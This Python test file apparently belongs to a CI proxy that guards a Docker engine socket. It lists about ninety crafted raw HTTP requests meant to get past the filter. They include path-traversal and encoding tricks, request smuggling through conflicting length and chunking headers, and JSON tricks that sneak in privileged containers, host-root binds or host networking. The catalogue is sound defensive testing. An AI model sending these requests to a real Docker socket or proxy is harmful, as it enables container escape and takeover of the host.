"""Requests of a client of ill will, as bytes: what a filter before an engine's socket must not let through."""

from __future__ import annotations

import json
import re
import socket
from contextlib import suppress
from typing import TYPE_CHECKING, Any

from tests.support.names import PREFIX

if TYPE_CHECKING:
    from pathlib import Path

PROXY = f"{PREFIX}-filter"
TARGET = f"{PROXY}-target"
"""A container beside the stack, for commands that need one."""

CANARY = f"{PROXY}-canary"
"""A volume that only a request which got past the proxy would make."""

V = "/v1.41"


def send(entrance: Path, text: str | bytes, until: str = "") -> str:
    """Send bytes as they are; give what is answered until its end, or a moment of silence behind the awaited words."""
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(12)  # longer than the proxy waits for a body
        made.connect(str(entrance))
        made.sendall(text.encode() if isinstance(text, str) else text)
        answer = b""
        with suppress(TimeoutError, ConnectionError):
            while piece := made.recv(65536):
                answer += piece
                if until.encode() in answer:
                    made.settimeout(0.15)
    return answer.decode(errors="replace")


def request(line: str, body: str = "", *headers: str, version: str = "1.1") -> str:
    """Write a request with a JSON body, if there is one."""
    about = [f"Content-Length: {len(body.encode())}", "Content-Type: application/json"] if body else []
    return "\r\n".join([f"{line} HTTP/{version}", "Host: docker", *about, *headers, "", body])


def is_the_proxys(answer: str) -> bool:
    """Say whether nothing but the proxy has answered: by its own words, or by hanging up."""
    words = (
        r"refused by the proxy of this CI|no such object|^HTTP/1\.1 400 Bad request\r|^HTTP/1\.1 408 Request Time-out"
    )
    own = len(re.findall(words, answer, re.MULTILINE))
    return not answer or (
        answer.startswith("HTTP/1.1 4") and len(re.findall(r"^HTTP/1\.1 ", answer, re.MULTILINE)) == own
    )


CREATE = json.dumps({"Image": "alpine:latest", "Cmd": ["true"], "HostConfig": {}})
SMUGGLED = request(f"POST {V}/volumes/create", json.dumps({"Name": CANARY}))


def evil(**host: Any) -> str:
    return json.dumps({"Image": "alpine:latest", "HostConfig": host})


def chunked(body: str) -> str:
    return f"{len(body):x}\r\n{body}\r\n0\r\n\r\n"


def created(body: str, *headers: str) -> str:
    return request(f"POST {V}/containers/create", body, *headers)


BINDS = '{"Image":"alpine:latest","HostConfig":{%s}}'
MUTATIONS: dict[str, str] = {
    # The path.
    "two slashes": request(f"POST {V}//volumes/prune"),
    "two slashes in front": request(f"POST /{V}/volumes/prune"),
    "two slashes before a known one": request(f"GET {V}//info"),
    "a dot": request(f"GET {V}/./info"),
    "two dots": request(f"POST {V}/containers/../volumes/prune"),
    "two dots in code": request(f"POST {V}/containers/%2e%2e/volumes/prune"),
    "a slash in code": request(f"POST {V}/containers%2fcreate/../../volumes/prune"),
    "a letter in code": request(f"GET {V}/%69nfo"),
    "code of code": request(f"POST {V}/images/x%252f..%252f..%252fvolumes/prune"),
    "an image's name that climbs": request(f"DELETE {V}/images/x/../../volumes/{CANARY}"),
    "a container's name that climbs": request(f"GET {V}/containers/x/../../volumes/x/json"),
    "a backslash": request(f"POST {V}/containers\\..\\volumes\\prune"),
    "a null in code": request(f"GET {V}/info%00/json"),
    "capital letters": request(f"GET {V}/INFO"),
    "a slash at the end": request(f"GET {V}/info/"),
    "a parameter of the path": request(f"GET {V}/info;a=b"),
    "a fragment": request(f"GET {V}/volumes#/info"),
    "a space in front": request(f"GET  {V}/volumes"),
    "the known one first": request(f"GET {V}/info/../volumes"),
    "the whole address": request(f"POST http://docker{V}/volumes/prune"),
    "the whole address of a known one": request(f"GET http://docker{V}/info"),
    "the whole address of another scheme": request(f"GET unix://docker{V}/info"),
    "no path": request("GET docker"),
    "a star": request("OPTIONS *"),
    # The version.
    "an old version": request("GET /v1.23/info"),
    "a start as it once was": request(f"POST /v1.20/containers/{TARGET}/start", evil(Privileged=True)),
    "two versions": request(f"POST {V}{V}/containers/create", CREATE),
    "a version of zeros": request("GET /v1.0041/info"),
    "a version beyond": request("GET /v2.0/info"),
    # The method.
    "a method in small letters": request(f"get {V}/info"),
    "an override by a header": request(f"GET {V}/volumes/prune", "", "X-HTTP-Method-Override: POST"),
    "a method of a client's own": request(f"FOO {V}/info"),
    "a connection to elsewhere": request("CONNECT docker:80"),
    "a trace": request(f"TRACE {V}/info"),
    # The query.
    "a second key": request(f"POST {V}/build?networkmode=default&networkmode=host"),
    "a key in code": request(f"POST {V}/build?network%6dode=host"),
    "a value in code": request(f"POST {V}/build?networkmode=%68ost"),
    "a key after a semicolon": request(f"POST {V}/build?t=a;networkmode=host"),
    "a context to fetch": request(f"POST {V}/build?remote=http://192.0.2.1/x.tar"),
    "BuildKit by its version": request(f"POST {V}/build?version=2&remote=http://192.0.2.1/x.tar"),
    "a question mark more": request(f"POST {V}/build??networkmode=host"),
    "an image from a stream": request(f"POST {V}/images/create?fromSrc=-"),
    "a checkpoint of the host": request(f"POST {V}/containers/{TARGET}/start?checkpoint=a&checkpoint-dir=/"),
    "a form for a query": request(
        f"POST {V}/build", "", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 0"
    ),
    "a form beside a type": request(
        f"POST {V}/build", "", "Content-Type: application/x-tar", "Content-Type: application/x-www-form-urlencoded"
    ),
    # The protocol.
    "HTTP of before": request("GET /info", version="1.0"),
    "HTTP of once": "GET /info\r\n\r\n",
    "a tunnel to BuildKit": request("POST /grpc", "", "Connection: Upgrade", "Upgrade: h2c"),
    "a tunnel for a session": request("POST /session", "", "Connection: Upgrade", "Upgrade: h2c"),
    "HTTP/2 at once": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    # Two requests for one.
    "a length and chunks": created(CREATE, "Transfer-Encoding: chunked"),
    "chunks alone": request(f"POST {V}/containers/create", "", "Transfer-Encoding: chunked")
    + chunked(evil(Privileged=True)),
    "chunks beyond what is kept": request(f"POST {V}/containers/create", "", "Transfer-Encoding: chunked")
    + chunked('{"Image":"alpine:latest",' + " " * 70_000 + '"HostConfig":{"Privileged":true}}'),
    "chunks of one byte": request(f"POST {V}/containers/create", "", "Transfer-Encoding: chunked")
    + "".join(
        f"1\r\n{byte}\r\n" for byte in '{"Image":"alpine:latest",' + " " * 70_000 + '"HostConfig":{"Privileged":true}}'
    )
    + "0\r\n\r\n",
    "chunks in disguise": request(f"POST {V}/containers/create", "", "Transfer-Encoding : chunked") + chunked(CREATE),
    "chunks of a kind": request(f"POST {V}/auth", "", "Transfer-Encoding: xchunked") + SMUGGLED,
    "two lengths": request(f"POST {V}/auth", "", "Content-Length: 2", "Content-Length: 0") + "{}" + SMUGGLED,
    "a length below nothing": request(f"POST {V}/auth", "", "Content-Length: -1") + SMUGGLED,
    "a length with a sign": request(f"POST {V}/containers/create", "", "Content-Length: +2") + "{}",
    "a body that does not come": request(f"POST {V}/containers/create", "", "Content-Length: 900")
    + evil(Privileged=True),
    "a header over two lines": request(f"POST {V}/volumes/create", json.dumps({"Name": CANARY}), "A: b\r\n c: d"),
    "a line feed alone": f"GET {V}/volumes HTTP/1.1\nHost: docker\n\n",
    # The body.
    "a body without an end": created("x" * 60_000),
    "a key in small letters": created(BINDS % '"privileged":true'),
    "a key in any letters": created(BINDS % '"pRiViLeGeD":true'),
    "a key in code of JSON": created(BINDS % '"\\u0050rivileged":true'),
    "a key with a long s": created(BINDS % '"Bind\u017f":["/:/h"]'),
    "a key twice": created(BINDS % '"Privileged":false,"Privileged":true'),
    "space in between": created(BINDS % '"Privileged" \n\t:\r\n true'),
    "a path in code of JSON": created(BINDS % '"Binds":["\\u002f:/h"]'),
    "a path with an escaped slash": created(BINDS % '"Binds":["\\/:/h"]'),
    "a path behind a volume": created(BINDS % '"Binds":["v]:/x",null,"/:/h"]'),
    "a capability as a word": created(BINDS % '"CapAdd":"ALL"'),
    "two configurations": created('{"HostConfig":{},"Image":"alpine:latest","HostConfig":{"Privileged":true}}'),
    "the host's network by a key": created(
        '{"Image":"alpine:latest","NetworkingConfig":{"EndpointsConfig":{"x":{},"host":{}}}}'
    ),
    "a path behind a thousand volumes": created(evil(Binds=[*["v:/x"] * 1000, "/:/h"])),
    "a path behind four thousand volumes": created(evil(Binds=[*["v:/x"] * 4000, "/:/h"])),
    "the proxy behind three thousand others": created(evil(VolumesFrom=[*["abcdef"] * 3000, PROXY])),
    "a path behind a long name": created(evil(Binds=["v" * 40_000, "/:/h"])),
    "a path behind much space": created(BINDS % ('"Binds":[' + " " * 40_000 + '"/:/h"]')),
    "lists in lists": created(BINDS % ('"Binds":[' + '"binds":[' * 4000)),
    "no end of a string": created('{"Image":"alpine:latest'),
    "a second value behind": created(evil() + evil(Privileged=True)),
    "another key's string before": created(BINDS % '"Env":["\\"Privileged\\": false"],"Privileged":true'),
}
"""What a client of ill will may send. The engine must answer none of it."""
